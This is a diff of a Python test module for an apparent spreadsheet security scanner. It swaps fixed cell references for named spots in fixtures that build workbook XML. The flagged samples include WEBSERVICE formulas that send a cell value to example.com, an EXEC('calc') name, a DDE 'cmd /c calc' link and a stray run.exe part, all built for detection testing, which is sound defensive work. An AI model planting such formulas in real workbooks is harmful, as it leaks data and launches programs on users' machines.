@@ -6,6 +6,7 @@ import zipfile
 
 from tests.conftest import rewrite
 from tests.intake.books import MAIN, REL
+from tests.spots import at, with_cells
 from tests.trust.fixture import Case, Fixture, Found
 from tests.trust.structure import Make
 
@@ -73,7 +74,7 @@ def in_sheet(before: str, inside: str = "") -> Make:
     def change(xml: str) -> str:
         begin, end, rest = xml.partition("<dataValidations")
         attributes, closing, others = rest.partition(">")
-        return begin + before + end + attributes + closing + inside + others
+        return begin + with_cells(before) + end + attributes + closing + inside + others
 
     return lambda case: case.xml(change)
 
@@ -81,8 +82,11 @@ def in_sheet(before: str, inside: str = "") -> Make:
 def threaded(text: str, plain: str | None = None) -> Make:
     """Return a change that adds a comment with its thread, and the ordinary one that repeats it for older programs."""
     uri = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
-    thread = f'<ThreadedComments xmlns="{uri}"><threadedComment ref="I31" id="a"><text>{text}</text></threadedComment>'
-    old = (f'<comments xmlns="{MAIN}"><authors><author>tc=a</author></authors><commentList><comment ref="I31" '
+    cell = at("total")
+    thread = (
+        f'<ThreadedComments xmlns="{uri}"><threadedComment ref="{cell}" id="a"><text>{text}</text></threadedComment>'
+    )
+    old = (f'<comments xmlns="{MAIN}"><authors><author>tc=a</author></authors><commentList><comment ref="{cell}" '
            f'authorId="0"><text><t>{plain}</t></text></comment></commentList></comments>')  # fmt: skip
     with_thread = attach(f"{MICROSOFT}/2017/10/relationships/threadedComment", "xl/threadedComments/t.xml",
                          f"{thread}</ThreadedComments>")  # fmt: skip
@@ -145,12 +149,13 @@ TOLD = (
     told("comments-outside", "comments that lie elsewhere", "content of a kind of its own",
          attach(f"{REL}/comments", "", outside="http://example.com/comments.xml")),
     told("loose-program", "a program among the properties", "parts that nothing refers to", loose("docProps/run.exe")),
-    told("name-reaches-out", "a name that asks a server", REACHING, named("WEBSERVICE(&quot;http://example.com&quot;)")),
+    told("name-reaches-out", "a name that asks a server", REACHING,
+         named("WEBSERVICE(&quot;http://example.com&quot;)")),
     told("name-starts-program", "a name that starts a program", REACHING, named("EXEC(&quot;calc&quot;)")),
     told("dde", "a name with a link of the old kind", REACHING, named("cmd|'/c calc'!A1")),
     told("rule-reaches-out", "a conditional format that asks a server", REACHING,
-         in_sheet('<conditionalFormatting sqref="H20"><cfRule type="expression" priority="90"><formula>'
-                  'WEBSERVICE("http://example.com/"&amp;H20)="1"</formula></cfRule></conditionalFormatting>')),
+         in_sheet('<conditionalFormatting sqref="{ability.rating}"><cfRule type="expression" priority="90"><formula>'
+                  'WEBSERVICE("http://example.com/"&amp;{ability.rating})="1"</formula></cfRule></conditionalFormatting>')),
     told("validation-reaches-out", "a data validation that asks a server", REACHING,
          in_sheet("", '<dataValidation type="custom" sqref="L40"><formula1>_xlfn.WEBSERVICE("http://example.com")="1"'
                       "</formula1></dataValidation>")),
@@ -204,22 +209,23 @@ SILENT = (
     silent("notes-drawing", "the old drawing of comments",
            attach(f"{REL}/vmlDrawing", "xl/d.vml",
                   '<xml xmlns:v="urn:v"><v:shape id="a"><x:ClientData ObjectType="Note"/></v:shape></xml>')),
-    silent("honest-name", "a name for a formula of its own workbook", named("SUM(考核表!$I$8:$I$20)")),
+    silent("honest-name", "a name for a formula of its own workbook",
+           named(with_cells("SUM(考核表!{callback_rate:score}:{ability:score})"))),
     silent("honest-rule", "a conditional format with a formula",
-           in_sheet('<conditionalFormatting sqref="H20"><cfRule type="expression" priority="90"><formula>'
-                    '$H$20&gt;5</formula></cfRule></conditionalFormatting>')),
+           in_sheet('<conditionalFormatting sqref="{ability.rating}"><cfRule type="expression" priority="90"><formula>'
+                    '{ability.rating}&gt;5</formula></cfRule></conditionalFormatting>')),
     silent("google-metadata", "what Google keeps for itself",
            attach("http://customschemas.google.com/relationships/workbookmetadata", "metadata", owner=BOOK)),
 )  # fmt: skip
 
 THREADS = (
-    Fixture("thread", "a comment of the newer kind alone", "W", (Found("comment-found", "I31", "总分 91"),),
+    Fixture("thread", "a comment of the newer kind alone", "W", (Found("comment-found", "total", "总分 91"),),
             threaded("总分 91")),
     Fixture("thread-differs", "a comment that says something else to older programs", "W",
-            (Found("comment-found", "I31", "总分 91"), Found("comment-found", "I31", "请核对")),
+            (Found("comment-found", "total", "总分 91"), Found("comment-found", "total", "请核对")),
             threaded("总分 91", "请核对")),
     Fixture("thread-repeated", "a comment of the newer kind that older programs show too, told once", "W",
-            (Found("comment-found", "I31", "[Threaded comment] 请核对"),),
+            (Found("comment-found", "total", "[Threaded comment] 请核对"),),
             threaded("请核对", "[Threaded comment] 请核对")),
 )  # fmt: skip
 
